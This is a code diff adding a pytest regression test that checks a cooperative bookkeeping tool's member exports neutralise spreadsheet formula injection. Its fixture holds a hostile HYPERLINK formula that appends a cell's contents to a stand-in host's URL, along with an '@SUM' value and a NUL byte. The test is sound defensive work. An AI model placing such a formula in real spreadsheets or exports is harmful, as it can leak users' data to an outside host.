@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import csv
+import zipfile
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from kopdesk.cli import main
 from kopdesk.db import open_book
@@ -160,3 +162,38 @@ def test_member_status_from_the_cli(
     assert "Keluar sejak 30-06-2025" in out
     code, out, _ = run(capsys, "member", "list", "--db", str(db), "--status", "keluar")
     assert out.strip().startswith("A-0007")
+
+
+INJECTED = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'
+
+
+def test_exports_write_a_formula_like_name_as_text(
+    capsys: pytest.CaptureFixture[str], db: Path, tmp_path: Path
+) -> None:
+    """Issue 14 item 16: a member named like a formula went into the .xlsx as a live
+    formula and into the .csv unescaped; a NUL from a CSV broke the .xlsx export."""
+    source = tmp_path / "anggota.csv"
+    rows = [
+        ["No. Anggota", "Nama Lengkap", "NIK", "Tanggal Masuk"],
+        ["A-0001", INJECTED, "3273015504900002", "02-01-2020"],
+        ["A-0002", "@SUM(1+1)", "3171011708450001", "01-07-2019"],
+        ["A-0003", "Rina\x00 Marlina", "3273014101850003", "01-07-2019"],
+    ]
+    with source.open("w", encoding="utf-8", newline="") as out:
+        csv.writer(out).writerows(rows)
+    code, _, err = run(capsys, "import", "members", str(source), "--db", str(db))
+    assert (code, err) == (0, "")
+
+    xlsx = tmp_path / "ekspor.xlsx"
+    assert run(capsys, "export", "members", "--db", str(db), "--out", str(xlsx))[0] == 0
+    with zipfile.ZipFile(xlsx) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    sheet = load_workbook(xlsx).active
+    assert sheet is not None
+    names = [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)]
+    assert names == [(INJECTED, "s"), ("@SUM(1+1)", "s"), ("Rina Marlina", "s")]
+
+    out_csv = tmp_path / "ekspor.csv"
+    assert run(capsys, "export", "members", "--db", str(db), "--out", str(out_csv))[0] == 0
+    exported = list(csv.DictReader(out_csv.read_text(encoding="utf-8-sig").splitlines()))
+    assert [r["Nama Lengkap"] for r in exported] == ["'" + INJECTED, "'@SUM(1+1)", "Rina Marlina"]
